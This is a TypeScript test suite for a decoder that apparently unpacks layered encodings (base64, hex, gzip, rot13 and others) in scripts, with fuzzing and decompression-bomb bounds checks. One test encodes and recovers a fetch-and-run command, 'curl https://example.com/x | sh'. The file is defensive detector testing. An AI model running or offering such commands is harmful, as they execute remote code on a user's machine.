import assert from 'node:assert/strict';
import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import fc from 'fast-check';
import {
	bytesOf,
	decodeAs,
	decodeEscapes,
	decodeText,
	MAX_DECODED,
	textOf,
} from '../../server/src/scripts/decode';
import { decodeChain } from '../../server/src/scripts/decode-chain';
import { inflate } from '../../server/src/scripts/inflate';

const base64 = (text: string | Uint8Array) => Buffer.from(text).toString('base64');

describe('scripts/decode', () => {
	it('undoes each encoding', () => {
		assert.equal(decodeText('base64', 'bHMgLWxh'), 'ls -la');
		assert.equal(decodeText('base64', 'bHMg\n LWxhIA'), 'ls -la ');
		assert.equal(decodeText('base64', '8J-Ygg=='), '😂');
		assert.equal(decodeText('base64', 'not base64!'), null);
		assert.equal(decodeText('base32', 'NRZSALLMME======'), 'ls -la');
		assert.equal(decodeText('hex', '6c73202d6c61'), 'ls -la');
		assert.equal(decodeText('hex', '\\x6c\\x73'), 'ls');
		assert.equal(decodeText('hex', '6c 7'), null);
		assert.equal(decodeText('base85', 'Xk~0{Zv'), Buffer.from('hello').toString());
		assert.equal(decodeText('ascii85', '<~87cURD]i,"Ebo80~>'), 'Hello World!');
		assert.equal(decodeText('rot13', 'Uryyb'), 'Hello');
		assert.equal(decodeText('url-encoding', '%6c%73%20é%C3%A9%zz'), 'ls éé%zz');
		assert.equal(decodeText('reversed', 'al- sl'), 'ls -la');
		assert.equal(decodeEscapes('\\x6c\\163\\u0041\\n\\q\\u{1F602}'), 'lsA\n\\q😂');
	});

	it('reads PowerShell commands in UTF-16', () => {
		assert.equal(textOf(Buffer.from('Get-Item x', 'utf16le')), 'Get-Item x');
		assert.equal(textOf(Uint8Array.of(0, 1, 2, 3, 255)), null);
	});

	it('round-trips what Node encodes', () => {
		fc.assert(
			fc.property(fc.uint8Array({ maxLength: 300 }), bytes => {
				assert.deepEqual(Buffer.from(decodeAs('base64', bytesOf(base64(bytes)))!), Buffer.from(bytes));
				assert.deepEqual(
					Buffer.from(decodeAs('hex', bytesOf(Buffer.from(bytes).toString('hex')))!),
					Buffer.from(bytes),
				);
			}),
		);
	});

	it('inflates what zlib deflates', () => {
		const arbitrary = fc.oneof(
			fc.uint8Array({ maxLength: 2000 }),
			fc
				.array(fc.constantFrom('echo ', 'curl -s ', 'abc', '\n'), { maxLength: 2000 })
				.map(words => bytesOf(words.join(''))),
		);
		fc.assert(
			fc.property(arbitrary, fc.integer({ min: 0, max: 9 }), (bytes, level) => {
				const expected = Buffer.from(bytes);
				assert.deepEqual(Buffer.from(inflate(gzipSync(bytes, { level }), 'gzip', 1e6)!), expected);
				assert.deepEqual(Buffer.from(inflate(deflateSync(bytes, { level }), 'zlib', 1e6)!), expected);
				assert.deepEqual(Buffer.from(inflate(deflateRawSync(bytes, { level }), 'deflate', 1e6)!), expected);
			}),
		);
	});

	it('bounds what it inflates and survives damage', () => {
		const bomb = gzipSync(Buffer.alloc(50_000_000));
		assert.equal(decodeAs('gzip', bomb)?.length, MAX_DECODED);
		fc.assert(
			fc.property(fc.uint8Array({ maxLength: 200 }), bytes => {
				inflate(bytes, 'deflate', 10_000);
				inflate(bytes, 'gzip', 10_000);
				inflate(bytes, 'zlib', 10_000);
			}),
		);
	});

	it('guesses chains of encodings', () => {
		const inner = 'curl https://example.com/x | sh';
		assert.deepEqual(decodeChain(base64(inner), 4), { text: inner, via: ['base64'] });
		assert.deepEqual(decodeChain(base64(base64(inner)), 4), { text: inner, via: ['base64', 'base64'] });
		assert.deepEqual(decodeChain(base64(base64(inner)), 1), { text: base64(inner), via: ['base64'] });
		assert.deepEqual(decodeChain(base64(gzipSync(inner)), 4), { text: inner, via: ['base64', 'gzip'] });
		assert.deepEqual(decodeChain(Buffer.from(inner).toString('hex'), 4), { text: inner, via: ['hex'] });
		assert.equal(decodeChain('an ordinary sentence, with words', 4), null);
		assert.equal(decodeChain('node_modules/typescript', 4), null);
		assert.equal(decodeChain('short', 4), null);
	});

	it('never throws, whatever the bytes', () => {
		const encodings = [
			'base64',
			'base32',
			'base85',
			'ascii85',
			'hex',
			'rot13',
			'url-encoding',
			'escapes',
			'reversed',
			'gzip',
			'zlib',
			'deflate',
		] as const;
		fc.assert(
			fc.property(fc.uint8Array({ maxLength: 100 }), fc.string(), (bytes, text) => {
				for (const encoding of encodings) {
					decodeAs(encoding, bytes);
					decodeText(encoding, text);
				}
				decodeChain(text, 4);
			}),
		);
	});

	it('is linear on long input', () => {
		for (const text of [
			'A'.repeat(2e6),
			'a1'.repeat(1e6),
			`${'A1B2C3D4'.repeat(250_000)}!`,
			'%41'.repeat(6e5),
			'\\x41'.repeat(4e5),
		])
			decodeChain(text, 4);
	});
});
